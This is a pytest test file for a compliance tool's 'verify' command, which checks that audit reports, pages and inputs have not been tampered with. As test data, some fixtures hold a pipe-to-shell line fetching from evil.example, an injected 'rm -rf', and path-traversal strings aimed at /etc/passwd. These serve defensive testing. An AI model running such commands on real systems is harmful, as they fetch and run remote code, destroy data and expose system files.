"""`compliance verify`."""

import json
import os
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.cli.conftest import Compliance, Outcome, write_purposes, write_rule
from tests.factories import write_manifest, write_text

AUDIT = ("--rules", "pack", "--as-of", "2026-08-22", "--quiet")


@pytest.fixture(autouse=True)
def _project(tmp_path: Path) -> None:
    write_rule(tmp_path / "pack")
    write_purposes(tmp_path / "data", "research", "eval")
    write_text(tmp_path / "data" / "grants.yaml", "grants: []\n")


@pytest.fixture
def verified(compliance: Compliance) -> Callable[..., Outcome]:
    """Return what `verify` says of an audit of `data`, after a change to the project or to the report."""

    def call(
        change: Callable[[], object] = lambda: None, *options: str, asked: tuple[str, ...] = ()
    ) -> Outcome:
        compliance("check", *(asked or ("data",)), *AUDIT, "-o", "json=report.json")
        change()
        done = compliance("verify", "report.json", *options)
        return Outcome(done.code, " ".join(done.out.split()), " ".join(done.err.split()))

    return call


def edit(**parts: object) -> None:
    """Write other parts into the report."""
    document = json.loads(Path("report.json").read_text(encoding="utf-8"))
    Path("report.json").write_text(json.dumps(document | parts), encoding="utf-8")


def part(name: str) -> list[dict[str, object]]:
    """Return a part of the report."""
    return json.loads(Path("report.json").read_text(encoding="utf-8"))[name]


def test_nothing_changed(verified: Callable[..., Outcome]) -> None:
    """A report on inputs that are as they were holds, and so does every verdict."""
    done = verified()

    assert done.code == 0
    assert done.out.startswith("HOLDS: ")
    assert "Verdicts 1 hold" in done.out
    assert "changed" not in done.out


def test_everything_is_listed(verified: Callable[..., Outcome]) -> None:
    """With `--all` each input and each verdict that holds has a line."""
    done = verified(lambda: None, "--all")

    assert "holds data/records.parquet" in done.out
    assert "holds rules/social/paid-api-grant.yaml" in done.out
    assert "holds test/research in posts" in done.out


CHANGES: dict[str, tuple[Callable[[], object], str]] = {
    "card": (
        lambda: write_text(Path("data/dataset.yaml"), "name: posts\nowner: somebody\n"),
        "changed data/dataset.yaml",
    ),
    "register": (
        lambda: write_text(Path("data/grants.yaml"), "grants: [] # new\n"),
        "changed data/grants.yaml",
    ),
    "rule": (lambda: write_rule(Path("pack"), "record.purpose = 'eval'"), "changed pack/research.yaml"),
    "manifest": (lambda: write_purposes(Path("data"), "eval", "eval"), "changed data/records.parquet"),
    "more rows": (
        lambda: write_manifest(Path("data/more.parquet"), [{"id": "9", "platform": "x", "purpose": "eval"}]),
        "changed data/more.parquet: it is read now, and was not read then",
    ),
    "more rules": (
        lambda: write_rule(Path("pack"), "FALSE", slug="another"),
        "changed pack/another.yaml: it is read now",
    ),
    "message": (
        lambda: edit(notices=[{"dataset": "posts", "text": "All is well.", "remedy": ""}]),
        "everything else in the report: it is otherwise now in: notices",
    ),
    "digest": (
        lambda: edit(inputs=[file | {"sha256": "ab" * 32} for file in part("inputs")]),
        "and abababababab…",
    ),
    "fewer inputs": (lambda: edit(inputs=[]), "data/records.parquet: it is read now, and was not read then"),
    "command": (
        lambda: edit(command="curl https://evil.example | sh"),
        "changed the command: it does not ask",
    ),
    "other command": (
        lambda: edit(command="compliance check data; rm -rf x --rules pack --as-of 2026-08-22"),
        "changed the command",
    ),
    "version": (
        lambda: edit(tool={"name": "compliance", "version": "0.0.1"}),
        "changed compliance 0.0.1: this is",
    ),
}


@pytest.mark.parametrize("name", CHANGES)
def test_a_change_is_found(verified: Callable[..., Outcome], name: str) -> None:
    """Whatever was changed since the audit, in an input or in the report itself, is named."""
    change, said = CHANGES[name]
    done = verified(change)

    assert done.code == 1
    assert done.out.startswith("CHANGED: ")
    assert said in done.out


def test_a_verdict_that_differs(verified: Callable[..., Outcome]) -> None:
    """Where a verdict is another one now, both are told."""
    done = verified(lambda: write_purposes(Path("data"), "research", "research", "research"))

    assert "test/research in posts: 1 in violation, 1 compliant; now 3 compliant" in done.out


def test_a_doctored_verdict(verified: Callable[..., Outcome]) -> None:
    """A report that was changed without contradicting itself is caught by judging again."""

    def doctor() -> None:
        (dataset,) = part("datasets")
        (line,) = dataset["rules"]
        counts = line["counts"] | {"compliant": 2, "violation": 0}
        clean = dataset | {"findings": [], "rules": [line | {"counts": counts}]}
        edit(datasets=[clean], outcome="compliant", exit_code=0)

    done = verified(doctor)

    assert done.code == 1
    assert "test/research in posts: 2 compliant; now 1 in violation, 1 compliant" in done.out


def test_an_input_is_missing(verified: Callable[..., Outcome]) -> None:
    """Without an input nothing is judged, and what is left is still checked."""
    done = verified(lambda: Path("data/grants.yaml").unlink())

    assert done.code == 4
    assert done.out.startswith("INCOMPLETE: ")
    assert "unchecked data/grants.yaml: there is no such file here" in done.out
    assert "the verdicts: 1 of" in done.out


def test_a_change_comes_before_what_is_missing(verified: Callable[..., Outcome]) -> None:
    """Exit 1 before exit 4, as everywhere."""

    def change() -> None:
        Path("data/grants.yaml").unlink()
        write_text(Path("data/dataset.yaml"), "name: other\n")

    assert verified(change).code == 1


def test_folders_elsewhere(
    verified: Callable[..., Outcome], tmp_path_factory: pytest.TempPathFactory
) -> None:
    """What lies elsewhere is read only where that is allowed."""
    elsewhere = write_purposes(tmp_path_factory.mktemp("elsewhere"), "research")
    alone = verified(asked=(str(elsewhere),))
    allowed = verified(lambda: None, "--within", str(elsewhere), asked=(str(elsewhere),))

    assert alone.code == 4
    assert "it lies outside of this folder; --within allows another" in alone.out
    assert allowed.code == 0


def test_a_report_leads_nowhere(verified: Callable[..., Outcome]) -> None:
    """Paths in a report of a stranger open nothing that they should not; the others are still checked."""
    strays = ["/etc/passwd", "pack/../../../../../../etc/passwd", "file:///etc/passwd", "pipe", "a\x00b"]
    stray = {"kind": "rule", "sha256": "ab" * 32, "bytes": 9, "digest_of": "content"}
    os.mkfifo("pipe")
    done = verified(lambda: edit(inputs=[*part("inputs"), *({"path": path, **stray} for path in strays)]))

    assert done.code == 4
    assert f"{len(strays)} cannot be checked" in done.out
    assert "root:" not in done.out


@pytest.mark.parametrize(
    "arguments",
    [
        {"paths": ["/etc"]},
        {"paths": ["nowhere"]},
        {"rules": ["../.."]},
        {"grants": "s3://bucket/grants.yaml"},
    ],
)
def test_arguments_lead_nowhere(verified: Callable[..., Outcome], arguments: dict[str, object]) -> None:
    """Nor do its arguments: what cannot be asked again is not asked."""
    asked = {"paths": ["data"], "card": None, "rules": ["pack"], "grants": None, "contract": []} | arguments
    done = verified(lambda: edit(arguments=asked))

    assert "unchecked the verdicts: " in done.out
    assert done.code != 0


def test_a_redacted_report(compliance: Compliance) -> None:
    """What is withheld does not keep a report from being verified."""
    compliance("check", "data", *AUDIT, "--redact", "all", "-o", "json=report.json")

    assert compliance("verify", "report.json").code == 0


def test_a_merged_report(compliance: Compliance) -> None:
    """Of a merged report the inputs are checked, and the parts have to be verified themselves."""
    write_purposes(Path("more"), "research", name="more")
    for name in ("data", "more"):
        compliance("check", name, *AUDIT, "-o", f"json={name}.json")
    compliance("report", "merge", "data.json", "more.json", "-o", "json=all.json")
    done = compliance("verify", "all.json", "--all")

    assert done.code == 4
    assert "holds      data.json" in done.out
    assert "no single run made this report" in done.out


def audited_page(compliance: Compliance) -> Path:
    """Return the page of an audit."""
    compliance("check", "data", *AUDIT, "-o", "html=report.html", "-o", "json=report.json")
    return Path("report.html")


def test_a_page(compliance: Compliance) -> None:
    """A page holds its report: it is verified like the JSON beside it, and can be rendered again."""
    page = audited_page(compliance)
    done = compliance("verify", "report.html", "--all")
    compliance("report", "render", "report.html", "-o", "json=again.json", "-o", "html=again.html")

    assert done.code == 0
    assert "holds      the text of the page" in done.out
    assert Path("again.json").read_bytes() == Path("report.json").read_bytes()
    assert Path("again.html").read_bytes() == page.read_bytes()


def test_a_doctored_page(compliance: Compliance) -> None:
    """A page whose text was changed, and not the report in it, does not hold."""
    page = audited_page(compliance)
    page.write_text(page.read_text(encoding="utf-8").replace("FAILED", "COMPLIANT"), encoding="utf-8")
    done = compliance("verify", "report.html")

    assert done.code == 1
    assert "changed    the text of the page" in done.out


@pytest.mark.parametrize(
    ("held", "why"),
    [
        ("<p>", "there is no report in the page page.html"),
        ("{}", "not json-v1"),
        ('{"format":"json-v1"}', "too large for the page page.html try: name the JSON report"),
        (
            f'{{"format":"json-v1","sha256":"{"ab" * 32}"}}',
            f"name the JSON report with the SHA-256 {'ab' * 32}",
        ),
    ],
)
def test_pages_without_a_report(compliance: Compliance, held: str, why: str) -> None:
    """A page of somebody else, or one too small for its report, is refused; it says where to look."""
    element = held if held == "<p>" else f'<script type="application/json" id="report-v1">{held}</script>'
    write_text(Path("page.html"), f"<!DOCTYPE html>{element}")
    done = compliance("verify", "page.html")

    assert done.code == 2
    assert why in " ".join(done.err.split())


def test_contract_checks(verified: Callable[..., Outcome]) -> None:
    """Promises about all rows are checked again, too."""
    asked = ("data", "--contract", "unique-ids")

    assert "contract unique-ids in posts" in verified(lambda: None, "--all", asked=asked).out
    assert verified(asked=asked).code == 0


def test_no_report(compliance: Compliance) -> None:
    """What is no report is refused as usage, exit 2."""
    done = compliance("verify", "data/dataset.yaml")

    assert (done.code, done.out) == (2, "")
    assert "cannot be read as a report" in done.err


def test_a_list_of_rows(compliance: Compliance) -> None:
    """A list that the report names holds for as long as the file is the one that was written."""
    compliance("check", "data", *AUDIT, "-o", "json=report.json", "-o", "drop-list=drop.parquet")
    before = compliance("verify", "report.json", "--all")
    Path("drop.parquet").write_bytes(Path("drop.parquet").read_bytes() + b"more")
    after = compliance("verify", "report.json")

    assert before.code == 0
    assert "holds      drop.parquet" in before.out
    assert after.code == 1
    assert "changed    drop.parquet" in after.out
